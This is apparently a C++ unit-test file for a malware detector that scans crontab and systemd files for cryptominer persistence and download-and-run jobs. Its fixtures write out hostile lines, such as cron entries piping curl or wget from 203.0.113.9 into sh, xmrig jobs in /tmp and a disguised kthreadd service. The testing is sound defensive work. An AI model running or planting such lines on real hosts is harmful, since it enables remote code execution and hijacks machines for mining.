#include <doctest/doctest.h>

#include <sys/stat.h>

#include <cstdlib>
#include <fstream>

#include "rules/detector.h"
#include "rules/persistence_rules.h"
#include "rules_test_util.h"

using mr_test::has_signal;
using mr_test::shipped_rules;
using mr_test::signal_of;

namespace {
std::vector<mr::Signal> text(const std::string& t) {
    std::vector<mr::Signal> out;
    mr::check_persistence_text(t, "/etc/crontab", shipped_rules(), out);
    return out;
}
}  // namespace

TEST_CASE("rules: persistence lines that start miners or download-and-run") {
    auto s = text("# m h dom mon dow user command\n*/5 * * * * root /tmp/.x/xmrig -c /tmp/.x/c.json\n");
    REQUIRE(has_signal(s, "persistence_miner"));
    CHECK(signal_of(s, "persistence_miner")->evidence.rfind("/etc/crontab:2: ", 0) == 0);
    CHECK(has_signal(text("@reboot root /opt/x -o stratum+tcp://h.example:3333\n"), "persistence_miner"));
    CHECK(has_signal(text("ExecStart=/usr/bin/helper --url=pool.supportxmr.com:443\n"), "persistence_miner"));
    s = text("*/10 * * * * root (curl -fsSL http://203.0.113.9/ldr.sh||wget -q -O- http://x/ldr.sh)|sh\n");
    CHECK(signal_of(s, "persistence_download_exec")->strength == mr::Strength::medium);
    CHECK(has_signal(text("* * * * * wget -q -O - http://x/a | /bin/bash\n"), "persistence_download_exec"));
    // Near misses: comments, ordinary jobs, downloads saved to a file, pipes without download.
    CHECK(text("# */5 * * * * root xmrig\n").empty());
    CHECK(text("17 * * * * root cd / && run-parts --report /etc/cron.hourly\n").empty());
    CHECK(text("0 3 * * * root curl -fsS -o /var/backups/list.txt https://example.org/list\n").empty());
    CHECK(text("0 4 * * * root zpool scrub tank | mail -s scrub root\n").empty());
    CHECK(text("ExecStart=/usr/sbin/nginx -g 'daemon on; master_process on;'\n").empty());
}

TEST_CASE("rules: persistence scan of a root tree, reported on the host finding") {
    mr_test::TempDir tmp("persist");
    const std::string& root = tmp.path;
    std::system(("mkdir -p " + root + "/etc/cron.d " + root + "/etc/systemd/system " + root +
                 "/var/spool/cron/crontabs").c_str());
    std::ofstream(root + "/etc/crontab") << "17 * * * * root run-parts /etc/cron.hourly\n";
    std::ofstream(root + "/etc/cron.d/sysupdate") << "* * * * * root curl -s http://x/a.sh | sh\n";
    std::ofstream(root + "/etc/systemd/system/kthreadd.service")
        << "[Service]\nExecStart=/var/tmp/.k/kdevtmpfsi\n";
    std::ofstream(root + "/etc/systemd/system/nginx.service.d.conf") << "ExecStart=/usr/bin/xmrig\n";  // not a unit

    auto sigs = mr::check_persistence(root, shipped_rules());
    REQUIRE(has_signal(sigs, "persistence_miner"));
    CHECK(signal_of(sigs, "persistence_miner")->evidence.find("/etc/systemd/system/kthreadd.service:2:") !=
          std::string::npos);
    CHECK(signal_of(sigs, "persistence_miner")->evidence.find("xmrig") == std::string::npos);
    CHECK(signal_of(sigs, "persistence_download_exec")->evidence.rfind("/etc/cron.d/sysupdate:1:", 0) == 0);

    mr::Detector d = mr_test::shipped_detector();
    mr::DetectOptions o = mr_test::no_scan();
    o.persistence_root = root;
    auto fs = d.detect(mr::Snapshot{}, o);
    REQUIRE(mr_test::finding_for(fs, 0));
    CHECK(mr_test::finding_for(fs, 0)->color == mr::Color::red);
    o.persistence_root.clear();
    CHECK(d.detect(mr::Snapshot{}, o).empty());
}
